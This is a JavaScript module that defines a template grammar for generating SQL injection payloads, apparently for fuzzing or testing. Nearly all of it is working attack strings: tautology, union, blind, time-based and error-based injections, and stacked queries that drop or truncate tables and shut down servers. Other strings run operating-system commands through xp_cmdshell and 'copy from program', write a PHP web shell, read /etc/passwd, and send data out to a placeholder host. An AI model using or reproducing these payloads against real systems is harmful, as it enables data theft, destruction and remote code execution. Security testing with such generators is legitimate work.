/** SQL injection after the forms of public cheat sheets (OWASP testing guide, manuals of the databases). */
import { lines } from './grammar.mjs'

export const SQL = {
  sqli: lines`
    §num§;§stack§
    §num§;§stack§§cut§
    §n§; §stack§§cut§
    §val§;§stack§;
    §val§\`;§stack§§cut§
    §val§\` §w_or§ \`1\`=\`1
    §val§\`) §bool§§cut§
    §val§§q§;§stack§§cut§_§rnd§
    §val§§q§/**/§w_or§/**/§q§§n§§q§=§q§§n§
    §val§§q§%0b§w_or§%0b§cond§§cut§
    §val§§q§||§q§1§q§=§q§1
    §n§e0union select §cols§ from §table§
    §val§§q§ §w_or§(1)=(1)§cut§
    §val§§q§-0 §w_or§ §n§=§n§§cut§
    §val§ union§blank§select §cols§ from §table§§cut§
    §val§§q§ union§blank§all§blank§select §cols§§cut§
    §val§§out§ §bool§§cut§
    §val§§out§ §bool§§cut§
    §val§§out§ §union§§cut§
    §val§§out§ §union§§cut§
    §val§§out§ §blind§§cut§
    §val§§out§ §timed§§cut§
    §val§§out§; §stack§§cut§
    §val§§out§ §errors§§cut§
    §val§§out§ §tail§
    §val§§out§§cut§
    §val§§q§||(§sub§)||§q§
    §val§§q§+(§sub§)+§q§
    §val§§q§-§callv§-§q§
    §val§ §callv§
    §val§ and §cond§
    §val§ or §cond§
    (§sub§)
    -§num§ §union§§cut§
    §callv§
    §val§ order by §nn§§cut§
    §val§ group by §cols§ having §cond§§cut§
    §col§ = §q§§val§§q§ or §cond§
    if(§cond§,§callv§,§n§)
    (case when §cond§ then §n§ else §n§*(§sub§) end)
    §val§ rlike (select (case when (§cond§) then §n§ else 0x28 end))
    §val§ procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)
    §val§,(§sub§)
    §stack§
    /**/or/**/§cond§
    §val§§q§ §w_or§ not §cond§§cut§
    §val§§q§=§q§
    §val§§q§ §w_or§ §q§§rnd§§q§ §cmp§ §q§§rnd§
    §val§§q§ §w_or§ §q§§n§§q§=§q§§n§
    §q§ §w_or§ §q§§q§=§q§
    §val§§q§ §w_or§ true§cut§
    §val§§q§ is §q§§val§
    §val§§q§ like §q§%
    §val§§q§ sounds like §q§§val§
    §val§§q§ between §n§ and §q§§n§
    §val§§q§ in (§sub§)§cut§
    §val§§q§ && §cond§§cut§
    §val§§q§ regexp §q§^[a-z]
    admin§q§§cut§
    admin§q§/*
    admin§q§ §w_or§ §cond§§cut§
    §val§§q§ into outfile §q§/var/www/html/§rnd§.php§q§§cut§
    §val§ limit 1,1 §union§§cut§
    §val§§q§ and ascii(substring((§sub§),§n§,1))§cmp§§num§§cut§
    §val§§q§);§stack§§cut§
    %§q§ §w_or§ §cond§§cut§
    §val§ div 0
    §val§ xor §cond§
    §val§ mod §n§ or §cond§
    §val§ having §cond§§cut§
    §val§ where §num§=§num§ §bool§§cut§
    §val§) as §rnd§ where §num§=§num§ §bool§§cut§
  `,
  q: ["'", "'", "'", '"', "''", "\\'", '`', '%27', '’'],
  out: [
    "'",
    "'",
    "'",
    '"',
    "')",
    "'))",
    '")',
    ')',
    '',
    '',
    "' ",
    "%'",
    "%')",
    '`',
    "'\\",
    "''",
    "';",
    '";',
    ' ',
    "\\'",
    "']",
    '"]',
    "'}",
    '%27',
    '%22',
    "' )",
  ],
  cut: [
    '',
    '',
    '-- ',
    '--',
    '--+',
    '-- -',
    '#',
    '/*',
    ';--',
    '; --',
    ' #',
    "-- '",
    '%23',
    ' --',
    ';',
    ';%00',
    "'",
    "/*'",
    '--%20',
    '-- §rnd§',
    " and '1'='1",
    ' and "1"="1',
    " or '1'='2",
    " and ('1'='1",
    ' limit 1',
    '%00',
  ],
  bool: lines`
    or §cond§
    or §cond§
    and §cond§
    and §cond§
    || §cond§
    && §cond§
    or (§cond§)
    and not §cond§
    or not §cond§
    xor §cond§
    or exists(§sub§)
    and exists(§sub§)
    and (§sub§)§cmp§§num§
    or §col§ is not null
    or §col§ like §q2§%§rnd§%
    or 1
    or true
    or §num§ §cmp§ §num§
    having §cond§
    or §n§ in (§sub§)
    or username like char(37)
    or uname='admin'
    or §n§ between §n§ and §n§
    and §n§ like §n§
    or §n§ rlike §n§
    where §cond§
    or (§n§)=§n§
    or-1=-1
    or+§n§=§n§
    or/**/§n§=§n§
    or!1=0
    or ~1
  `,
  q2: ["'", '"'],
  w_or: ['or', 'and', '||', '&&', 'xor', 'or', 'and', 'Or', 'AnD', 'oR'],
  cmp: ['=', '=', '=', '<', '>', '<>', '!=', ' = ', ' like ', '>=', '<=>'],
  cond: lines`
    1=1
    §n§=§n§
    §num§=§num§
    '§n§'='§n§
    '§rnd§'='§rnd§
    '§rnd§'='§rnd§'
    "§n§"="§n§
    "§rnd§"="§rnd§"
    ''='
    §n§>§n§
    §n§<§n§
    §n§ like §n§
    'a'='a'
    (§n§)=(§n§)
    (select 1)=1
    §n§=§n§+§n§
    §n§-§n§=§n§
    substring(version(),1,1)=§n§
    substring(@@version,1,1)='§n§
    length(database())§cmp§§n§
    ascii(substr((§sub§),§n§,1))§cmp§§num§
    mid(user(),1,1)='§rnd§'
    (select count(*) from §table§)§cmp§§num§
    user() like 'root%
    db_name()='§rnd§'
    §col§ = §col§
    §col§ is null
    sleep(§n§)=0
    true
    false
    not false
    'x' in ('x')
    2>1
    null is null
    1 is not null
    char_length('a')=1
    ord(mid((§sub§),§n§,1))>§num§
  `,
  union: lines`
    union select §cols§
    union select §cols§ from §table§
    union all select §cols§
    union all select §cols§ from §table§
    union all select §nulls§
    union select §nulls§ from §table§
    union distinct select §cols§ from §table§
    union select * from §table§
    union (select §cols§ from §table§)
    union(select(§col§)from(§table§))
    union select top 1 §cols§ from §table§
    union/**/select/**/§cols§/**/from/**/§table§
    /*!50000union*/ /*!50000select*/ §cols§
    uNiOn sElEcT §cols§
    union select §cols§ where §cond§
    union select §cols§ from §table§ where §col§='§word§' limit §n§,1
    union select §cols§ into outfile '/tmp/§rnd§.txt'
    UNION ALL SELECT §cols§,CONCAT(0x§hex§,§info§,0x§hex§),§nulls§
    union values row(1,2)
    union select load_file('/etc/passwd'),§nulls§
    intersect select §cols§ from §table§
    except select §cols§ from §table§
    union%20select%20§cols§
  `,
  nulls: [
    'null',
    'null,null',
    'null,null,null',
    'NULL,NULL,NULL,NULL',
    'null,null,null,null,null,null',
    "null,'§rnd§',null",
    'null,§info§,null',
    "'a',null,null",
  ],
  cols: [
    '1',
    '1,2',
    '1,2,3',
    '1,2,3,4,5',
    '1,§info§,3',
    '1,§info§,§info§,4',
    '§info§',
    '§col§,§col§',
    '1,2,3,4,5,6,7,8,9,10',
    'concat(§col§,0x3a,§col§)',
    '1,concat(§col§,char(58),§col§),3',
    '1,group_concat(§col§),3',
    "'§rnd§','§rnd§'",
    '§n§,§n§,§n§',
    '@@version,2',
    '0x§hex§',
    '1,2,§col§,4',
    '*',
    'count(*)',
    'group_concat(table_name)',
    'a.§col§,b.§col§',
    'char(§num§,§num§)',
    "1,'<?php system($_GET[0]); ?>',3",
  ],
  info: [
    'version()',
    '@@version',
    'user()',
    'database()',
    'current_user',
    'group_concat(table_name)',
    'group_concat(column_name)',
    'concat(user(),0x3a,database())',
    '@@hostname',
    '@@datadir',
    'schema_name',
    'current_database()',
    'system_user()',
    'banner',
    'sqlite_version()',
    'user',
    'db_name()',
    'table_name',
    'session_user()',
    'load_file(0x§hex§)',
    "string_agg(§col§,',')",
    'unhex(hex(§col§))',
  ],
  col: [
    'username',
    'password',
    'user',
    'pass',
    'email',
    'id',
    'name',
    'login',
    'passwd',
    'uid',
    'pwd',
    'hash',
    'user_id',
    'credit_card',
    'ccnumber',
    'table_name',
    'column_name',
    'token',
    'secret',
    'user_pass',
    'user_login',
    'admin',
    'ssn',
    '§rnd§',
    'pw',
    'salt',
    'role',
  ],
  table: [
    'users',
    'user',
    'admin',
    'members',
    'information_schema.tables',
    'information_schema.columns',
    'information_schema.schemata',
    'mysql.user',
    'dual',
    'all_tables',
    'sysobjects',
    'sys.tables',
    'master..sysdatabases',
    'sqlite_master',
    'pg_catalog.pg_tables',
    'pg_user',
    'wp_users',
    'accounts',
    'customers',
    'orders',
    'login',
    'employees',
    'credit_cards',
    '§rnd§',
    'tb_user',
    'v$version',
    'all_users',
    'syscolumns',
    'pg_shadow',
    'user_tables',
    'msysobjects',
    'information_schema.columns where table_name=0x§hex§',
    "information_schema.columns where table_name='§word§'",
    'information_schema.tables where table_schema=database()',
    'users limit 1',
    'users where id=1',
    'dbo.§rnd§',
    'rdb$database',
    'sysibm.sysdummy1',
    'domain.columns',
  ],
  sub: lines`
    select §info§
    select §col§ from §table§
    select §col§ from §table§ limit 1
    select top 1 §col§ from §table§
    select count(*) from §table§
    select §col§ from §table§ where §col§='§word§'
    select sleep(§n§)
    select 1 from (select sleep(§n§))a
    select §n§ from pg_sleep(§n§)
    select * from (select(sleep(§n§)))§rnd§
    select group_concat(§col§) from §table§
    select concat(0x§hex§,(select (elt(§num§=§num§,1))),0x§hex§)
    select case when (§cond§) then §n§ else §n§ end
    select char(§num§)+char(§num§)+char(§num§)
    select §col§ from §table§ where rownum=1
    select utl_inaddr.get_host_address('§host§') from dual
    select load_file('\\\\\\\\§host§\\\\a')
    select extractvalue(xmltype('<?xml version="1.0"?><!DOCTYPE root [ <!ENTITY % r SYSTEM "http://§host§/"> %r;]>'),'/l') from dual
    select distinct(table_name) from information_schema.tables
    select 1
    select null
    select count(*) from all_users t1,all_users t2,all_users t3
    select count(*) from generate_series(1,5000000)
  `,
  blind: lines`
    and (§sub§)
    and if(§cond§,sleep(§n§),0)
    or if(§cond§,benchmark(5000000,md5(1)),0)
    and substr((§sub§),§n§,1)='§rnd§'
    and ascii(substring((§sub§),§n§,1))>§num§
    and (select case when (§cond§) then 1/0 else 1 end)
    and iif(§cond§,1,1/0)
    or length(§col§)>§n§
    and (select substring(§col§,1,1) from §table§ limit 1)='§n§
    and §n§=(§sub§)
    and (§n§,§num§)>(select count(*),concat((§sub§),floor(rand(0)*2))x from information_schema.tables group by x)
    rlike sleep(§n§)
    and exp(~(select * from (§sub§)x))
    and json_keys((select convert((§sub§) using utf8)))
    or row(§num§,§num§)>(select count(*),concat((§sub§),0x§hex§,floor(rand(0)*2))x from information_schema.character_sets group by x)
    and §num§ in (select (char(§num§)+char(§num§)))
    and make_set(§cond§,§n§)
    and elt(§cond§,§n§)
    order by (case when §cond§ then §n§ else §n§ end)
    order by if(§cond§,1,(§sub§))
    and extractvalue(1,concat(0x7e,(§sub§)))
    and updatexml(1,concat(0x3a,(§sub§)),1)
  `,
  timed: lines`
    and sleep(§n§)
    or sleep(§n§)
    and (select * from (select(sleep(§n§)))a)
    ; waitfor delay '0:0:§n§'
    waitfor delay '0:0:§n§'
    or pg_sleep(§n§)
    ; select pg_sleep(§n§)
    ||pg_sleep(§n§)
    and benchmark(10000000,md5(§n§))
    or benchmark(§num§000,sha1(1))
    and §n§=dbms_pipe.receive_message(chr(65)||chr(66),§n§)
    and 1=(select 1 from pg_sleep(§n§))
    ;select sleep(§n§)
    ;select like('abcdefg',upper(hex(randomblob(500000000/2))))
    and randomblob(500000000)
    or sleep(§n§)=0
    +sleep(§n§)
    -sleep(§n§)
    ^sleep(§n§)
    and dbms_lock.sleep(§n§)
    xor(if(now()=sysdate(),sleep(§n§),0))xor
    -(if(§cond§,sleep(§n§),0))
    *if(now()=sysdate(),sleep(§n§),0)
  `,
  callv: [
    'sleep(§n§)',
    'version()',
    'user()',
    '@@version',
    'pg_sleep(§n§)',
    'benchmark(§num§000,md5(1))',
    'load_file(0x§hex§)',
    'database()',
    'if(now()=sysdate(),sleep(§n§),0)',
    'extractvalue(1,concat(0x7e,(§sub§)))',
    'updatexml(null,concat(0x0a,(§sub§)),null)',
    'char(§num§,§num§)',
    '(§sub§)',
    'convert(int,(§sub§))',
    'cast((§sub§) as int)',
    "utl_http.request('http://§host§/'||(§sub§))",
    'ascii(mid(§col§,1,1))',
    'xp_cmdshell',
    'concat(0x3a,§info§)',
    'current_user',
    'sysdate',
    'exp(710)',
    'st_latfromgeohash(version())',
    'ctxsys.drithsx.sn(§n§,(§sub§))',
  ],
  errors: lines`
    and extractvalue(1,concat(0x7e,(§sub§)))
    and updatexml(1,concat(0x7e,(§sub§)),1)
    or updatexml(0,concat(0xa,§info§),0)
    and 1=convert(int,(§sub§))
    and 1=cast((§sub§) as int)
    and gtid_subset(concat(0x§hex§,(§sub§)),§num§)
    and (select 1 from(select count(*),concat((§sub§),floor(rand(0)*2))x from information_schema.tables group by x)a)
    and ctxsys.drithsx.sn(1,(§sub§))=1
    and 1=utl_inaddr.get_host_name((§sub§))
    and polygon((select * from(select * from(§sub§)f)x))
    procedure analyse(extractvalue(§num§,concat(0x5c,(§sub§))),1)
    and ord(mid((§sub§),1,1))
    or 1 group by concat(§info§,floor(rand(0)*2)) having min(0)
    and cast((chr(§num§)||chr(§num§))||(§sub§)::text||(chr(§num§)) as numeric)
  `,
  blank: ['/**/', '%0a', '%0b', '%09', '--x%0a', '%23x%0a', '/*!*/', '%a0', '\n', '+', '(', '/*x*/'],
  stack: lines`
    drop table §table§ cascade
    drop/**/table/**/§table§
    DROP TABLE §rnd§
    delete from §rnd§
    update §rnd§ set §col§=1
    drop table §table§
    drop database §rnd§
    insert into §table§ values (§cols§)
    insert into §table§ (§col§,§col§) values ('§rnd§','§rnd§')
    update §table§ set §col§='§rnd§'
    update §table§ set §col§='§rnd§' where §col§='admin'
    delete from §table§
    delete from §table§ where §cond§
    exec master..xp_cmdshell 'dir'
    exec xp_cmdshell('ping §host§')
    exec master.dbo.xp_dirtree '//§host§/a'
    exec sp_configure 'show advanced options',1; reconfigure
    declare @q varchar(200); set @q=0x§hex§; exec(@q)
    declare @s varchar(4000) set @s=cast(0x§hex§ as varchar(4000)) exec(@s)
    shutdown
    shutdown with nowait
    create table §rnd§ (a text)
    create user §rnd§ identified by '§rnd§'
    alter table §table§ drop column §col§
    truncate table §table§
    grant all on *.* to §rnd§
    copy §rnd§ from program 'id'
    copy (select '') to program 'nslookup §host§'
    select §cols§ from §table§
    select pg_sleep(§n§)
    waitfor delay '0:0:§n§'
    begin dbms_lock.sleep(§n§); end
    call §rnd§()
    bulk insert §rnd§ from 'c:\\\\boot.ini'
    use master
    if (§cond§) waitfor delay '0:0:§n§'
    create or replace function §rnd§(text) returns int as '/lib/libc.so.6','system' language 'c' strict
    exec sp_makewebtask '\\\\\\\\§host§\\\\o.html','§sub§'
    handler §table§ open
    desc §table§
    show tables
    load data infile '/etc/passwd' into table §rnd§
    attach database '/var/www/§rnd§.php' as §rnd§
    prepare §rnd§ from 0x§hex§; execute §rnd§
  `,
  tail: [
    'order by §nn§§cut§',
    'group by §nn§§cut§',
    'limit 1 offset §n§§cut§',
    'having 1=1§cut§',
    "into outfile '/tmp/§rnd§'",
    'procedure analyse()§cut§',
    'for update',
    'and',
    'or',
    'union',
    'order by 1,2,3§cut§',
    'group by §col§ having §cond§§cut§',
    'with rollup',
    'limit 0,1 into @a',
    'collate utf8_general_ci=§n§',
    'asc',
    'is null§cut§',
    '§cmp§ §n§',
  ],
}
